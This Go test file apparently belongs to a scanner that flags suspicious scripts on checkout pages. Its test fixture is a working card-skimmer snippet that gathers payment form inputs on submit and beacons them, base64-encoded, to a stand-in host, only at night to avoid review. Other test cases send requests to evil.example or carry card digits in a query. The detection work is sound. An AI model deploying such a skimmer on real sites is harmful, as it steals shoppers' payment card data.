package page

import (
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/known"
	"github.com/tillwatch/tillwatch/sensor/page/browser"
)

// waiting sends what is in the payment form to another host, but only at night.
const waiting = `document.querySelector('#card-number').form.addEventListener('submit', function () {
	if (new Date().getHours() > 4) return;
	var data = {};
	document.querySelectorAll('input').forEach(function (i) { data[i.name] = i.value; });
	navigator.sendBeacon('https://cdn-metrics.example/c', btoa(JSON.stringify(data)));
});`

func TestAScriptThatWaitsIsReadAllTheSame(t *testing.T) {
	v := &visit{scripts: []browser.Script{
		{ID: "1", Session: "s", URL: "https://shop.example/a.js", FrameURL: "https://shop.example/pay", Kind: "external", Source: waiting, SHA256: "1", Line: 1, Column: 1, At: time.Unix(1, 0)},
		{ID: "2", Session: "s", URL: "https://shop.example/pay", FrameURL: "https://shop.example/pay", Kind: "inline", Source: waiting, SHA256: "1", Line: 40, Column: 9, At: time.Unix(1, 0)},
		{ID: "3", Session: "s", URL: "https://js.pay.example/v1.js", FrameURL: "https://js.pay.example/frame", Kind: "external", Source: waiting, SHA256: "1", Line: 1, Column: 1, At: time.Unix(1, 0)},
	}}
	d := destinations{shop: "shop.example", authorised: []string{"*.pay.example"}, providers: known.PaymentProviders()}
	signs := suspiciousScripts(v, d)
	if len(signs) != 2 {
		t.Fatalf("%d signs, want one for each place outside the provider's frame: %+v", len(signs), signs)
	}
	for i, first := range []int{1, 40} {
		s := signs[i]
		if s.Rule != "page/script-suspicious" || s.Severity < tillwatch.Medium || s.Certainty == tillwatch.Certain {
			t.Errorf("%s, %s, %s", s.Rule, s.Severity, s.Certainty)
		}
		if len(s.Evidence) == 0 || s.Evidence[0].Line < first || s.Evidence[0].Line > first+5 || s.Evidence[0].Where == "" {
			t.Errorf("the evidence is not at its lines of the document: %+v", s.Evidence)
		}
	}
}

func TestWhatNobodyCanReadIsSaid(t *testing.T) {
	v := &visit{scripts: []browser.Script{{ID: "1", Session: "s", URL: "https://shop.example/a.js", Kind: "external", Source: "%%% ][ ''' {{{", SHA256: "2", At: time.Unix(1, 0)}}}
	signs := suspiciousScripts(v, destinations{shop: "shop.example", providers: known.PaymentProviders()})
	if len(signs) != 1 || signs[0].Rule != "page/script-unparsable" || signs[0].Severity != tillwatch.Low {
		t.Fatalf("%+v", signs)
	}
}

// A picture that is chosen by the card's number, as checkouts show its brand, is excused where the walk saw which it was.
func TestAPictureOfTheShopsOwnIsNoTheft(t *testing.T) {
	const brand = `var picture = new Image();
document.querySelector('[name=cardnumber]').addEventListener('input', function (e) { picture.src = window.brandOf(e.target.value); });`
	ask := func(address string) []browser.Request {
		return []browser.Request{{URL: address, Type: "Image", Session: "s", InitiatorKind: "script", Stack: []browser.Call{{ScriptID: "1", URL: "https://shop.example/a.js", Line: 2}}, At: time.Unix(2, 0)}}
	}
	for name, c := range map[string]struct {
		asked []browser.Request
		want  tillwatch.Severity
	}{
		"its own":        {ask("https://shop.example/img/visa.svg"), tillwatch.Low},
		"it did not ask": {nil, tillwatch.High},
		"somebody else":  {ask("https://evil.example/img/visa.svg"), tillwatch.High},
		"with a query":   {ask("https://shop.example/img/visa.svg?n=NDExMQ"), tillwatch.High},
	} {
		v := &visit{set: someSet, requests: c.asked, scripts: []browser.Script{
			{ID: "1", Session: "s", URL: "https://shop.example/a.js", FrameURL: "https://shop.example/pay", Kind: "external", Source: brand, SHA256: "1", Line: 1, Column: 1, At: time.Unix(1, 0)},
		}}
		signs := suspiciousScripts(v, destinations{shop: "shop.example", providers: known.PaymentProviders()})
		if len(signs) != 1 || signs[0].Severity != c.want && !(c.want == tillwatch.High && signs[0].Severity == tillwatch.Medium) {
			t.Errorf("%s: %+v, want %s", name, signs, c.want)
		}
	}
}
